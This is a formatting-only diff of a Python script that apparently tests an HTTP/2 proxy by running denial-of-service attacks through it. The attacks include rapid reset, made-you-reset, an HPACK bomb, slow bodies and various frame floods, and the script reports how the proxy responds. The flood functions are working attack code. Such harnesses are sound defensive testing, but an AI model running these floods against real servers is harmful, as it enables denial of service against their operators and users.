@@ -1,12 +1,14 @@
-"""Attacks on an HTTP/2 server (RFC 9113 section 10.5), inside a CONNECT: http2_attack.py --proxy PORT --ca FILE --authority A ATTACK
+"""Attacks on an HTTP/2 server (RFC 9113 section 10.5), inside a CONNECT: http2_attack.py --proxy PORT --ca FILE
+--authority A ATTACK
 
 An attack goes on until the proxy ends the connection, or it has done it as often as it says. Prints
 
     {"event": "attack"}   when it has begun
-    {"event": "over", "ended": whether the proxy has ended the connection, "code", "text" of its GOAWAY, "resets", "statuses"}
+    {"event": "over", "ended": whether the proxy has ended the connection, "code", "text" of its GOAWAY, "resets",
+    "statuses"}
 
-With --connections N that many attack at one time, and each begins again when it is over, until the program is ended. --large PATH is a
-response of many megabytes.
+With --connections N that many attack at one time, and each begins again when it is over, until the program is ended.
+--large PATH is a response of many megabytes.
 """
 
 import argparse
@@ -14,8 +16,16 @@ import asyncio
 import collections
 
 from hyperframe.frame import (
-    ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
-    WindowUpdateFrame)
+    ContinuationFrame,
+    DataFrame,
+    GoAwayFrame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
 
 import http2_wire
 from events import say
@@ -54,17 +64,21 @@ async def flood(wire, make, times=MANY):
 
 async def rapid_reset(wire):
     """CVE-2023-44487."""
+
     def make(_):
         number = wire.request(fields())
         return [RstStreamFrame(number, error_code=8)]
+
     await flood(wire, make)
 
 
 async def made_you_reset(wire, make):
     """CVE-2025-8671: what the server has to reset costs the client no RST_STREAM."""
+
     def request(_):
         number = wire.request(fields(method="POST"), end=False)
         return make(number)
+
     await flood(wire, request)
 
 
@@ -84,6 +98,7 @@ async def bodies_that_are_too_long(wire):
     def make(_):
         number = wire.request(fields("/echo", "POST", ("content-length", "1")), end=False)
         return [DataFrame(number, b"xx")]
+
     await flood(wire, make)
 
 
@@ -140,7 +155,9 @@ async def priorities(wire):
 
 
 async def priority_updates(wire):
-    await flood(wire, lambda number: [frame(16, 0, (2 * (number % 1000) + 1).to_bytes(4, "big") + b"u=%d" % (number % 8))])
+    await flood(
+        wire, lambda number: [frame(16, 0, (2 * (number % 1000) + 1).to_bytes(4, "big") + b"u=%d" % (number % 8))]
+    )
 
 
 async def window_updates(wire):
@@ -157,14 +174,18 @@ async def goaways(wire):
 
 async def table_sizes(wire):
     """A block that does nothing but change the size of the table."""
-    await flood(wire, lambda number: [HeadersFrame(2 * number + 1, b"\x20\x3f\xe1\x1f" * 100, flags=["END_HEADERS", "END_STREAM"])])
+    await flood(
+        wire,
+        lambda number: [HeadersFrame(2 * number + 1, b"\x20\x3f\xe1\x1f" * 100, flags=["END_HEADERS", "END_STREAM"])],
+    )
 
 
 async def hpack_bomb(wire):
     """A field of 4000 bytes that goes into the table, and is named thousands of times by one byte each."""
     first = wire.request(fields("/echo", "GET", ("x-bomb", "b" * 3900)))
     await answer(wire, first)
-    # 0x01: a literal that stays out of the table (RFC 7541 section 6.2.2); 0xBE: the newest entry of it (section 2.3.3).
+    # 0x01: a literal that stays out of the table (RFC 7541 section 6.2.2); 0xBE: the newest entry of it (section
+    # 2.3.3).
     for _ in range(20):
         number, wire.next = wire.next, wire.next + 2
         wire.streams[number] = http2_wire.Stream()
@@ -217,7 +238,9 @@ async def unread_responses(wire):
 async def slow_bodies(wire):
     """A byte now and then, in a hundred streams."""
     numbers = [wire.request(fields("/echo", "POST", ("content-length", "100000")), end=False) for _ in range(100)]
-    while not wire.is_over and not all(wire.streams[number].code is not None or wire.streams[number].heads for number in numbers):
+    while not wire.is_over and not all(
+        wire.streams[number].code is not None or wire.streams[number].heads for number in numbers
+    ):
         for number in numbers:
             if wire.streams[number].code is None and not wire.streams[number].has_ended:
                 wire.write(DataFrame(number, b"x"))
@@ -245,7 +268,14 @@ async def attack():
     last = wire.goaways[-1] if wire.goaways else [0, None, ""]
     codes = collections.Counter(CODES[stream.code] for stream in wire.streams.values() if stream.code is not None)
     statuses = collections.Counter(dict(stream.heads[0])[":status"] for stream in wire.streams.values() if stream.heads)
-    say("over", ended=wire.is_over or wire.transport.is_closing(), code=last[1], text=last[2], resets=dict(codes), statuses=dict(statuses))
+    say(
+        "over",
+        ended=wire.is_over or wire.transport.is_closing(),
+        code=last[1],
+        text=last[2],
+        resets=dict(codes),
+        statuses=dict(statuses),
+    )
     wire.transport.abort()
 
 
